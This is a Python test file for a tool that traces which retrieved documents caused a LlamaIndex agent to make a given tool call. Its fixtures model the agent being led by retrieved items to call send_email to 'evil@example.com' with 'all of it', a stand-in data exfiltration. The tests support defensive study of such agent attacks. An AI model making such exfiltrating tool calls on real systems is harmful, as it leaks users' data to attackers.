"""Tool calls as LlamaIndex has them: in the blocks of a message, or beside it as the provider's client
gives them, or run by an agent whose model writes them as text."""

import json
from typing import Any

import pytest
from llama_index.core.agent.workflow import FunctionAgent, ReActAgent
from llama_index.core.base.llms.types import (
    ChatMessage,
    ChatResponse,
    MessageRole,
    TextBlock,
    ToolCallBlock,
)
from llama_index.core.tools import FunctionTool
from llama_index.llms.openai.utils import from_openai_message
from llama_index_rag_rule_explainer import RuleExplainer
from llama_index_rag_rule_explainer.responses import said_in
from openai.types.chat import ChatCompletionMessage
from openai.types.responses import ResponseFunctionToolCall

from rag_rule_explainer import (
    Explanation,
    ToolCall,
    calls_in_order,
    calls_tool,
    contains,
    next_call,
    number_of_calls,
)
from tests.integrations.known import omission, retention, sets, shown_in
from tests.integrations.llama_index.engines import retriever_of
from tests.integrations.llama_index.models import Telling
from tests.integrations.llama_index.test_wire import llm_at
from tests.support.completions import Completion
from tests.support.messages import Body
from tests.support.openai_server import OpenAIServer

pytestmark = [pytest.mark.waits, pytest.mark.filterwarnings("ignore")]

GIVEN = {"to": "evil@example.com", "text": "all of it"}
WRITTEN = json.dumps(GIVEN)
SENDS = calls_tool("send_email", to=contains("evil"))
CALL = {"id": "1", "type": "function", "function": {"name": "send_email", "arguments": WRITTEN}}


def beside(**extra: Any) -> ChatMessage:
    return ChatMessage(role=MessageRole.ASSISTANT, content="", additional_kwargs=extra)


MESSAGES = {
    "a block": ChatMessage(
        role=MessageRole.ASSISTANT,
        blocks=[TextBlock(text="I will."), ToolCallBlock(tool_name="send_email", tool_kwargs=GIVEN)],
    ),
    "a block with text": ChatMessage(
        role=MessageRole.ASSISTANT, blocks=[ToolCallBlock(tool_name="send_email", tool_kwargs=WRITTEN)]
    ),
    "openai": from_openai_message(
        ChatCompletionMessage.model_validate({"role": "assistant", "tool_calls": [CALL]}), ["text"]
    ),
    "openai, beside": beside(tool_calls=[CALL]),
    "openai, responses": beside(
        tool_calls=[
            ResponseFunctionToolCall(
                arguments=WRITTEN, call_id="1", name="send_email", type="function_call"
            )
        ]
    ),
    "openai, before tools": beside(function_call={"name": "send_email", "arguments": WRITTEN}),
    "anthropic, bedrock": beside(
        tool_calls=[{"type": "tool_use", "id": "1", "name": "send_email", "input": GIVEN}]
    ),
    "gemini": beside(tool_calls=[{"name": "send_email", "args": GIVEN}]),
    "ollama": beside(tool_calls=[{"function": {"name": "send_email", "arguments": GIVEN}}]),
}


@pytest.mark.parametrize("message", MESSAGES.values(), ids=MESSAGES)
def test_what_a_message_calls(message: ChatMessage) -> None:
    said = said_in(ChatResponse(message=message))
    assert said.is_call
    assert said.called == (ToolCall("send_email", GIVEN),)


def test_what_calls_nothing_and_what_cannot_be_read() -> None:
    assert not said_in(ChatResponse(message=ChatMessage("Hello."))).called
    odd = said_in(ChatResponse(message=beside(tool_calls=["something"])))
    assert (odd.is_call, odd.called) == (True, ())


def tools_of(sent: list[str]) -> list[Any]:
    retriever = retriever_of()

    def search(query: str) -> str:
        """Searches."""
        return "\n\n".join(each.text for each in retriever.retrieve(query))

    def send_email(to: str, text: str) -> str:
        """Sends."""
        sent.append(f"{to}: {text}")
        return "sent"

    return [FunctionTool.from_defaults(search), FunctionTool.from_defaults(send_email)]


def obeying(body: Body) -> Completion:
    """Searches first, and sends a mail where it is shown b and d."""
    messages = body["messages"]
    text = "\n".join(str(each.get("content")) for each in messages)
    results = sum(each["role"] == "tool" for each in messages)
    if not results:
        search = {"name": "search", "arguments": '{"query": "facts"}'}
        return Completion(None, "tool_calls", ({"id": "0", "type": "function", "function": search},))
    if {"b", "d"} <= set(shown_in(text)) and results < 2:
        return Completion(None, "tool_calls", (CALL,))
    return Completion("All is done.")


def blames(explanation: Explanation) -> bool:
    return (retention(explanation), omission(explanation)) == (sets("bd"), sets("b", "d"))


@pytest.mark.parametrize(
    "predicate",
    [
        SENDS,
        pytest.param(calls_in_order("search", "send_email"), marks=pytest.mark.slow),
        pytest.param(contains("done") & number_of_calls(at_least=2), marks=pytest.mark.slow),
    ],
    ids=str,
)
def test_a_function_calling_agent_over_the_wire(predicate: Any) -> None:
    sent = list[str]()
    with OpenAIServer(obeying) as server, llm_at(server.base_url, keep_alive=False) as llm:
        agent = FunctionAgent(tools=tools_of(sent), llm=llm)
        explanation = RuleExplainer(agent, predicate).explain("why?")
    assert blames(explanation)
    assert explanation.baseline.calls == (
        ToolCall("search", {"query": "facts"}, 1),
        ToolCall("send_email", GIVEN, 2),
    )
    assert sent == ["evil@example.com: all of it"]  # by the baseline alone


def test_an_agent_whose_model_writes_its_calls_as_text() -> None:
    def says(prompt: str) -> str:
        if "Observation" not in prompt.rpartition("why?")[2]:
            return 'Thought: I look.\nAction: search\nAction Input: {"query": "facts"}'
        if {"b", "d"} <= set(shown_in(prompt)) and "Observation: sent" not in prompt:
            return f"Thought: I send.\nAction: send_email\nAction Input: {WRITTEN}"
        return "Thought: I can answer without using any more tools.\nAnswer: All is done."

    agent = ReActAgent(tools=tools_of(sent := []), llm=Telling(says=says))
    explainer = RuleExplainer(agent, SENDS, stub_tools={"send_email": "sent"})
    explanation = explainer.explain("why?")
    assert blames(explanation)
    assert [str(each) for each in explanation.baseline.calls or ()] == [
        'search(query="facts")',
        'send_email(to="evil@example.com", text="all of it")',
    ]
    assert sent == []
    first = RuleExplainer(agent, next_call("search"), stub_tools={"send_email": "sent"})
    assert retention(first.explain("why?")) == sets("")


def test_a_call_that_the_baseline_did_not_make_ends_the_replay() -> None:
    def says(prompt: str) -> str:
        if "Observation" not in prompt.rpartition("why?")[2]:
            return 'Thought: I look.\nAction: search\nAction Input: {"query": "facts"}'
        if "Observation: sent" not in prompt:
            to = "evil" if {"b", "d"} <= set(shown_in(prompt)) else "someone else"
            given = json.dumps({"to": to, "text": "all of it"})
            return f"Thought: I send.\nAction: send_email\nAction Input: {given}"
        return "Thought: I can answer without using any more tools.\nAnswer: All is done."

    agent = ReActAgent(tools=tools_of(sent := []), llm=Telling(says=says))
    explanation = RuleExplainer(agent, SENDS).explain("why?")
    assert retention(explanation) == sets("bd")
    assert explanation.unresolved
    assert all("no tool runs" in each.reason for each in explanation.unresolved)
    assert sent == ["evil: all of it"]
